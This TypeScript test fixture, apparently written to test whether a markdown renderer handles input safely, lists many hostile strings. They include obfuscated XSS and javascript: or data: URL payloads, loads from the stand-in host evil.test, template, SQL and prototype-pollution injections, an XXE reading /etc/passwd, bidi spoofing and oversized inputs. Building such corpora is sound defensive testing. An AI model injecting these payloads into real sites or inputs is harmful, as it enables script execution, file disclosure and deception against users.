/** A text that somebody hopes a page will do more with than show it. */
export interface HostileString {
  name: string;
  text: string;
  /** What must be there to read, wherever it is shown. */
  words: string;
}

/** Everything that would run calls `hacked()`; everything that would be loaded comes from this host. */
export const HOSTILE_HOST = 'evil.test';

const URL_OF_HOST = `https://${HOSTILE_HOST}`;

const MARKUP: readonly string[] = [
  '<script>hacked()</script>',
  `<SCRIPT SRC=${URL_OF_HOST}/x.js></SCRIPT>`,
  '<scr<script>ipt>hacked()</scr</script>ipt>',
  '<script type="module">import "https://evil.test/m.js"; hacked()</script>',
  '<img src=x onerror=hacked()>',
  '<img src="x" onerror="hacked()" />',
  `<img src="${URL_OF_HOST}/pixel.png">`,
  `<img srcset="${URL_OF_HOST}/pixel.png 1x">`,
  '<img/src/onerror=hacked()>',
  '"><img src=x onerror=hacked()>',
  "'><svg/onload=hacked()>",
  '<svg onload=hacked()>',
  '<svg><script>hacked()</script></svg>',
  '<svg><animate onbegin=hacked() attributeName=x dur=1s>',
  `<svg><image href="${URL_OF_HOST}/i.svg"/></svg>`,
  '<math><mtext><style><img src=x onerror=hacked()></style></mtext></math>',
  '<iframe src="javascript:hacked()"></iframe>',
  '<iframe srcdoc="<script>parent.hacked()</script>"></iframe>',
  `<iframe src="${URL_OF_HOST}"></iframe>`,
  `<object data="${URL_OF_HOST}/o.swf"></object>`,
  `<embed src="${URL_OF_HOST}/e">`,
  '<body onload=hacked()>',
  '<details open ontoggle=hacked()>',
  '<video autoplay><source onerror=hacked()></video>',
  `<audio autoplay src="${URL_OF_HOST}/a.mp3" onerror=hacked()>`,
  '<input autofocus onfocus=hacked()>',
  '<marquee onstart=hacked()>marquee</marquee>',
  '<a href="javascript:hacked()" onclick="hacked()">anchor</a>',
  `<form action="${URL_OF_HOST}"><button formaction="javascript:hacked()">send</button></form>`,
  `<link rel=stylesheet href="${URL_OF_HOST}/x.css">`,
  `<link rel=prefetch href="${URL_OF_HOST}/x">`,
  `<style>@import url(${URL_OF_HOST}/x.css); * { background: url(${URL_OF_HOST}/b.png) }</style>`,
  '<div style="width: expression(hacked()); behavior: url(#default#time2)">expression</div>',
  `<div style="background: url(${URL_OF_HOST}/b.png)">background</div>`,
  `<base href="${URL_OF_HOST}/">`,
  '<meta http-equiv="refresh" content="0;url=javascript:hacked()">',
  '<template><script>hacked()</script></template>',
  '<template shadowrootmode="open"><img src=x onerror=hacked()></template>',
  '<slot onslotchange=hacked()></slot>',
  '<osmtalk-widget agent-id="evil" open></osmtalk-widget>',
  '</bdi></li></ol><script>hacked()</script>',
  '</textarea><script>hacked()</script>',
  '</style><script>hacked()</script>',
  '<noscript><p title="</noscript><img src=x onerror=hacked()>">',
  '<!--<img src="--><img src=x onerror=hacked()>-->',
  '<!-- comment -->',
  '<![CDATA[<script>hacked()</script>]]>',
  '<?xml version="1.0"?><?lit$123456$?>',
  '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
  '&lt;script&gt;hacked()&lt;/script&gt; &#60;script&#62;hacked()',
  '<<<<script>>>>hacked()',
  '< script >hacked()</ script >',
];

/** Text that a template engine, a format function or a terminal would take for its own. */
const TEMPLATES: readonly string[] = [
  '${hacked()}',
  '`${hacked()}`',
  '{{hacked()}}',
  '{{constructor.constructor("hacked()")()}}',
  '{% hacked() %} <%= hacked() %> #{hacked()}',
  '{name} {0} %s %d %n %x',
  '?lit$012345678$ {{lit-012345678}} <!--?lit$012345678$-->',
  '@click=${hacked} .innerHTML=${hacked} ?hidden=true',
  '__proto__ constructor prototype toString',
  '{"__proto__": {"polluted": true}}',
  "'; DROP TABLE messages; -- ",
  '\u001b[31mred\u001b[0m \u001b]8;;https://evil.test\u0007link\u001b]8;;\u0007',
  '../../../../etc/passwd',
  'expression(hacked()) url(javascript:hacked()) -moz-binding: url(https://evil.test)',
];

const CHARACTERS: readonly (readonly [name: string, text: string])[] = [
  ['a null byte', 'before\u0000after'],
  ['control characters', '\u0001\u0008\u000b\u000c\u001f\u007f\u0085visible'],
  ['a lone high surrogate', 'lone \ud83d high'],
  ['a lone low surrogate', 'lone \ude00 low'],
  ['surrogates the wrong way round', 'wrong \ude00\ud83d way'],
  ['a bidi override', 'invoice\u202egnp.exe'],
  ['unclosed bidi isolates', '\u2066\u2067\u2068isolated'],
  ['closing marks that nothing opened', '\u202c\u2069\u2069closed'],
  ['a bidi override in a link', `[safe\u202e](${URL_OF_HOST}/\u202egnp.exe)after`],
  ['zero-width characters', 'java\u200bscript\u200d:\ufeffhacked()'],
  ['line separators', 'one\u2028two\u2029three'],
  ['stacked accents', `z${'\u0300\u0301\u0302'.repeat(200)}algo`],
  ['a joined emoji family', '👨‍👩‍👧‍👦'.repeat(20)],
  ['tag characters', 'flag\u{e0067}\u{e0062}\u{e007f}'],
  ['private and unassigned characters', '\ue000\u{10ffff}\ufffe\uffffvisible'],
];

/** Addresses that are no link, the disguised ones included. */
export const HOSTILE_TARGETS: readonly string[] = [
  'javascript:hacked()',
  'JaVaScRiPt:hacked()',
  'java\tscript:hacked()',
  'java\nscript:hacked()',
  'java\rscript:hacked()',
  '\u0001javascript:hacked()',
  ' javascript:hacked()',
  'javascript\t:hacked()',
  '&#106;avascript:hacked()',
  '&#x6A;avascript:hacked()',
  'javascript&colon;hacked()',
  'javascript%3Ahacked()',
  'j\\avascript:hacked()',
  'javascript://evil.test/%0ahacked()',
  'javascript:hacked()//https://evil.test',
  'javascript:hacked`1`',
  'data:text/html,<script>hacked()</script>',
  'data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==',
  'DATA:image/svg+xml,<svg onload=hacked()>',
  'vbscript:hacked()',
  'VbScRiPt:hacked()',
  'blob:https://evil.test/1',
  'file:///etc/passwd',
  'filesystem:https://evil.test/x',
  'view-source:https://evil.test',
  'about:blank',
  'intent://evil.test#Intent;scheme=https;end',
  'ftp://evil.test/x',
  'wss://evil.test/x',
  '//evil.test/x',
  '/\\evil.test',
  '/relative',
  '#fragment',
  '?query',
  'https://',
  'https://user:secret@evil.test/',
  'https://bank.example@evil.test/',
];

const POSITIONS: readonly ((target: string) => string)[] = [
  (target) => `[click](${target}) ![picture](${target}) <${target}> ${target}`,
  (target) => `[click](<${target}> "title") [![picture](${target})](${target}) **[bold](${target})**`,
  (target) =>
    `# [heading](${target})\n- [item](${target})\n> [quote](${target})\n\n|head|\n|-|\n|[cell](${target})|`,
  (target) => `[reference][1] [1] ${target}\n\n[1]: ${target}\n[2]: <${target}> "title"`,
];

const UNFINISHED: readonly string[] = [
  '**bold',
  '*a **b ***c',
  '`code',
  '```\ncode',
  '[link](https://evil.test',
  '[link](<https://evil.test',
  '[link](https://evil.test "title',
  '[link][',
  '![',
  '| a | b |\n| - |',
  '~~gone',
  '<https://evil.test',
  '\\',
  '- ',
  '1.',
  '> ',
  '#',
];

/** Too much of something. */
const HUGE: readonly (readonly [name: string, text: string, words: string])[] = [
  ['a line of 1 MB', 'a'.repeat(1_000_000), 'a'.repeat(1_000)],
  ['a line of 1 MB in words', 'word '.repeat(200_000), 'word word'],
  ['1 MB from right to left', 'שלום '.repeat(200_000), 'שלום שלום'],
  ['100,000 lines', 'line\n'.repeat(100_000), 'line'],
  ['100,000 empty lines', `top${'\n'.repeat(100_000)}end`, 'end'],
  ['100,000 unclosed constructs', `${'**['.repeat(100_000)}end`, 'end'],
  ['100,000 brackets', `${'['.repeat(50_000)}x${']'.repeat(50_000)}`, 'x'],
  ['100,000 unclosed links', `${'[a]('.repeat(25_000)}end`, 'end'],
  [
    'backticks of every length',
    Array.from({ length: 440 }, (_, count) => `${'`'.repeat(count)}x`).join(''),
    'x',
  ],
  ['quotes 10,000 deep', `${'>'.repeat(10_000)} deep`, 'deep'],
  ['lists 10,000 deep', `${'- '.repeat(10_000)}deep`, 'deep'],
  ['emphasis 10,000 deep', `${'*a **b '.repeat(5_000)}x${'** *'.repeat(5_000)}`, 'x'],
  ['elements 10,000 deep', `${'<div>'.repeat(10_000)}deep`, 'deep'],
  [
    'a table of 10,000 columns',
    `${'|c'.repeat(10_000)}|\n${'|-'.repeat(10_000)}|\n${'|v'.repeat(10_000)}|`,
    'c',
  ],
  ['a table of 10,000 rows', `|head|\n|-|\n${'|v|\n'.repeat(10_000)}`, 'head'],
  ['30,000 pieces of emphasis', '*x* '.repeat(30_000), 'x'],
  ['10,000 links', `[x](${URL_OF_HOST}) `.repeat(10_000), 'x'],
  ['10,000 addresses', `${URL_OF_HOST} `.repeat(10_000), 'evil.test'],
  ['an address of 100,000 characters', `${URL_OF_HOST}/${'a'.repeat(100_000)}`, 'evil.test'],
  ['10,000 code blocks', '```\nx\n```\n'.repeat(10_000), 'x'],
  ['100,000 at signs', `${'@'.repeat(100_000)}end`, 'end'],
  ['10,000 bidi overrides', '\u202ex'.repeat(10_000), '\u202ex'],
  ['a letter under 100,000 accents', `z${'\u0301'.repeat(100_000)}`, 'z'],
  ['10,000 null bytes', `${'\u0000'.repeat(10_000)}end`, 'end'],
];

/** Each has a name of its own, so that a failing test says which one it was. */
export const hostileStrings: readonly HostileString[] = [
  ...MARKUP.map((text) => ({ name: `markup ${text}`, text, words: text })),
  ...TEMPLATES.map((text) => ({ name: `template ${text}`, text, words: /\w+/.exec(text)?.[0] ?? '' })),
  ...CHARACTERS.map(([name, text]) => ({ name, text, words: /[a-z]{3,}|👨/.exec(text)?.[0] ?? '' })),
  ...HOSTILE_TARGETS.flatMap((target) =>
    POSITIONS.map((place, index) => ({
      name: `link ${index} to ${JSON.stringify(target)}`,
      text: place(target),
      words: ['picture', 'bold', 'cell', 'reference'][index] ?? '',
    })),
  ),
  ...UNFINISHED.map((text) => ({ name: `unfinished ${text}`, text, words: /[a-z]+/.exec(text)?.[0] ?? '' })),
];

/** Those that are about size. Their names say it. */
export const hugeStrings: readonly HostileString[] = HUGE.map(([name, text, words]) => ({
  name,
  text,
  words,
}));
